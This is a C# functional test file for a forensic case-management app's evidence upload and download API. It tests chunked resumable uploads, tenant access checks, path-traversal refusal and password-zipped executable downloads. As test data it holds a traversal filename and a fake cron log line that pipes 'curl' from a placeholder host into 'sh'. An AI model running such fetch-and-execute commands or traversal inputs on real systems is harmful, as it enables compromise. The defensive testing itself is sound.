using System.Net;
using System.Net.Http.Json;
using System.Security.Cryptography;
using ICSharpCode.SharpZipLib.Zip;

namespace CaseManager.Web.FunctionalTests.Pages;

/// <summary>The resumable upload protocol over HTTP, as the evidence page's script speaks it, and the downloads.</summary>
public sealed class EvidenceApiTests(WebTestApp app) : IClassFixture<WebTestApp>
{
    [Fact]
    public async Task ChunkedUpload_WithARepeatedChunkAndAResume_StoresTheExactFile()
    {
        var (client, token) = await ConsultantWithTokenAsync();
        var bytes = RandomNumberGenerator.GetBytes(300_000);

        var begin = await PostJsonAsync(client, token, $"/api/evidence/cases/{app.CaseA}/uploads", new { fileName = "memory.raw", size = bytes.Length });
        begin.StatusCode.ShouldBe(HttpStatusCode.OK);
        var uploadId = (await begin.Content.ReadFromJsonAsync<UploadStarted>())!.UploadId;

        (await PutChunkAsync(client, token, uploadId, 0, bytes.AsMemory(0, 100_000))).StatusCode.ShouldBe(HttpStatusCode.OK);
        var repeated = await PutChunkAsync(client, token, uploadId, 0, bytes.AsMemory(0, 100_000));
        repeated.StatusCode.ShouldBe(HttpStatusCode.Conflict);
        (await repeated.Content.ReadFromJsonAsync<Offset>())!.offset.ShouldBe(100_000);

        // The connection "broke": ask where to resume, and go on from there.
        var resumeAt = (await client.GetFromJsonAsync<Offset>($"/api/evidence/uploads/{uploadId}"))!.offset;
        resumeAt.ShouldBe(100_000);
        (await PutChunkAsync(client, token, uploadId, resumeAt, bytes.AsMemory(100_000))).StatusCode.ShouldBe(HttpStatusCode.OK);
        var complete = await PostJsonAsync(client, token, $"/api/evidence/uploads/{uploadId}/complete", new { receivedFrom = "client SFTP" });
        complete.StatusCode.ShouldBe(HttpStatusCode.OK);

        var register = await client.GetStringAsync($"/Cases/Evidence/Index/{app.CaseA}");
        register.ShouldContain(Convert.ToHexStringLower(SHA256.HashData(bytes)));
        register.ShouldContain(Convert.ToHexStringLower(MD5.HashData(bytes)));
    }

    [Fact]
    public async Task Api_RefusesMissingTokenAnonymousAndClientUsers()
    {
        var (consultant, _) = await ConsultantWithTokenAsync();
        var body = JsonContent.Create(new { fileName = "x.bin", size = 10 });

        (await consultant.PostAsync($"/api/evidence/cases/{app.CaseA}/uploads", body)).StatusCode.ShouldBe(HttpStatusCode.BadRequest);
        (await app.NewClient().PostAsync($"/api/evidence/cases/{app.CaseA}/uploads", body)).StatusCode.ShouldBe(HttpStatusCode.Unauthorized);
        var clientUser = await app.SignedInClientAsync(app.ClientUserAEmail);
        (await clientUser.GetAsync($"/api/evidence/cases/{app.CaseA}/status")).StatusCode.ShouldBe(HttpStatusCode.Forbidden);
    }

    [Fact]
    public async Task ClientUser_UploadsThroughThePortal_OnceTheConsultantAllowsIt()
    {
        var clientUser = await app.SignedInClientAsync(app.ClientUserBEmail);
        var portal = await clientUser.GetStringAsync($"/Portal/Evidence/Index/{app.CaseB}");
        portal.ShouldNotContain("id=\"uploader\"");
        var token = FormPosting.AntiforgeryToken(portal)!;
        (await PostJsonAsync(clientUser, token, $"/api/evidence/cases/{app.CaseB}/uploads", new { fileName = "fw.log", size = 5 })).StatusCode.ShouldBe(HttpStatusCode.Forbidden);

        var consultant = await app.SignedInClientAsync(app.ConsultantEmail);
        (await consultant.PostFormAsync($"/Cases/Details/{app.CaseB}?handler=ClientUploads", new() { ["allowed"] = "true" }, formPage: $"/Cases/Details/{app.CaseB}"))
            .StatusCode.ShouldBe(HttpStatusCode.Redirect);

        portal = await clientUser.GetStringAsync($"/Portal/Evidence/Index/{app.CaseB}");
        portal.ShouldContain("id=\"uploader\"");
        token = FormPosting.AntiforgeryToken(portal)!;
        var bytes = "firewall log line\n"u8.ToArray();
        var begin = await PostJsonAsync(clientUser, token, $"/api/evidence/cases/{app.CaseB}/uploads", new { fileName = "fw.log", size = bytes.Length });
        begin.StatusCode.ShouldBe(HttpStatusCode.OK);
        var uploadId = (await begin.Content.ReadFromJsonAsync<UploadStarted>())!.UploadId;
        (await PutChunkAsync(clientUser, token, uploadId, 0, bytes)).StatusCode.ShouldBe(HttpStatusCode.OK);
        (await PostJsonAsync(clientUser, token, $"/api/evidence/uploads/{uploadId}/complete", new { receivedFrom = "portal" })).StatusCode.ShouldBe(HttpStatusCode.OK);

        (await clientUser.GetStringAsync($"/Portal/Evidence/Index/{app.CaseB}")).ShouldContain(Convert.ToHexStringLower(SHA256.HashData(bytes)));
        var otherTenant = await app.SignedInClientAsync(app.ClientUserAEmail);
        var otherToken = await otherTenant.AntiforgeryTokenAsync($"/Portal/Evidence/Index/{app.CaseA}");
        (await PostJsonAsync(otherTenant, otherToken, $"/api/evidence/cases/{app.CaseB}/uploads", new { fileName = "x.log", size = 5 })).StatusCode.ShouldBe(HttpStatusCode.NotFound);
    }

    [Fact]
    public async Task Upload_EmptyOrBadlyNamed_IsRefusedWithAReason()
    {
        var (client, token) = await ConsultantWithTokenAsync();

        var empty = await PostJsonAsync(client, token, $"/api/evidence/cases/{app.CaseA}/uploads", new { fileName = "empty.bin", size = 0 });
        var traversal = await PostJsonAsync(client, token, $"/api/evidence/cases/{app.CaseA}/uploads", new { fileName = "..\\..\\boot.ini", size = 5 });
        var unknownCase = await PostJsonAsync(client, token, $"/api/evidence/cases/{Guid.NewGuid()}/uploads", new { fileName = "a.bin", size = 5 });

        empty.StatusCode.ShouldBe(HttpStatusCode.BadRequest);
        (await empty.Content.ReadAsStringAsync()).ShouldContain("The file is empty.");
        traversal.StatusCode.ShouldBe(HttpStatusCode.BadRequest);
        unknownCase.StatusCode.ShouldBe(HttpStatusCode.NotFound);
    }

    [Fact]
    public async Task Download_Executable_IsAnAesZipThatOpensWithInfected_OtherEvidenceAsIs()
    {
        var (client, token) = await ConsultantWithTokenAsync();
        var elf = await File.ReadAllBytesAsync("/usr/bin/true");
        var elfId = await UploadAsync(client, token, "true", elf);
        var text = "Nov 28 03:00:01 web01 CRON[1]: (root) CMD (curl -s http://x.example/a.sh | sh)\n"u8.ToArray();
        var textId = await UploadAsync(client, token, "cron.log", text);

        var zipped = await client.PostFormAsync($"/Cases/Evidence/Details/{elfId}?handler=Download", new() { ["reason"] = "reverse engineering" }, formPage: $"/Cases/Evidence/Details/{elfId}");
        zipped.StatusCode.ShouldBe(HttpStatusCode.OK);
        zipped.Content.Headers.ContentType!.MediaType.ShouldBe("application/zip");
        zipped.Content.Headers.ContentDisposition!.DispositionType.ShouldBe("attachment");
        var zipBytes = await zipped.Content.ReadAsByteArrayAsync();
        using (var zip = new ZipFile(new MemoryStream(zipBytes)) { Password = "infected" })
        {
            var entry = zip.Cast<ZipEntry>().ShouldHaveSingleItem();
            (entry.Name, entry.AESKeySize).ShouldBe(("true", 256));
            using var content = new MemoryStream();
            await zip.GetInputStream(entry).CopyToAsync(content);
            content.ToArray().ShouldBe(elf);
        }

        var plain = await client.PostFormAsync($"/Cases/Evidence/Details/{textId}?handler=Download", new() { ["reason"] = "timeline" }, formPage: $"/Cases/Evidence/Details/{textId}");
        plain.Content.Headers.ContentType!.MediaType.ShouldBe("application/octet-stream");
        plain.Headers.GetValues("X-Content-Type-Options").ShouldContain("nosniff");
        (await plain.Content.ReadAsByteArrayAsync()).ShouldBe(text);

        var details = await client.GetStringAsync($"/Cases/Evidence/Details/{textId}");
        details.ShouldContain("timeline");
        details.ShouldContain("data-testid=\"custody-ok\"");
    }

    private async Task<Guid> UploadAsync(HttpClient client, string token, string name, byte[] bytes)
    {
        var begin = await PostJsonAsync(client, token, $"/api/evidence/cases/{app.CaseA}/uploads", new { fileName = name, size = bytes.Length });
        var uploadId = (await begin.Content.ReadFromJsonAsync<UploadStarted>())!.UploadId;
        (await PutChunkAsync(client, token, uploadId, 0, bytes)).StatusCode.ShouldBe(HttpStatusCode.OK);
        var complete = await PostJsonAsync(client, token, $"/api/evidence/uploads/{uploadId}/complete", new { receivedFrom = "test" });
        return (await complete.Content.ReadFromJsonAsync<EvidenceCreated>())!.EvidenceId;
    }

    private async Task<(HttpClient Client, string Token)> ConsultantWithTokenAsync()
    {
        var client = await app.SignedInClientAsync(app.ConsultantEmail);
        return (client, await client.AntiforgeryTokenAsync($"/Cases/Evidence/Index/{app.CaseA}"));
    }

    private static Task<HttpResponseMessage> PostJsonAsync(HttpClient client, string token, string url, object body)
    {
        var request = new HttpRequestMessage(HttpMethod.Post, url) { Content = JsonContent.Create(body) };
        request.Headers.Add("RequestVerificationToken", token);
        return client.SendAsync(request);
    }

    private static Task<HttpResponseMessage> PutChunkAsync(HttpClient client, string token, Guid uploadId, long offset, ReadOnlyMemory<byte> chunk)
    {
        var request = new HttpRequestMessage(HttpMethod.Put, $"/api/evidence/uploads/{uploadId}?offset={offset}") { Content = new ReadOnlyMemoryContent(chunk) };
        request.Headers.Add("RequestVerificationToken", token);
        return client.SendAsync(request);
    }

    private sealed record UploadStarted(Guid UploadId);

    private sealed record EvidenceCreated(Guid EvidenceId);

    private sealed record Offset(long offset);
}
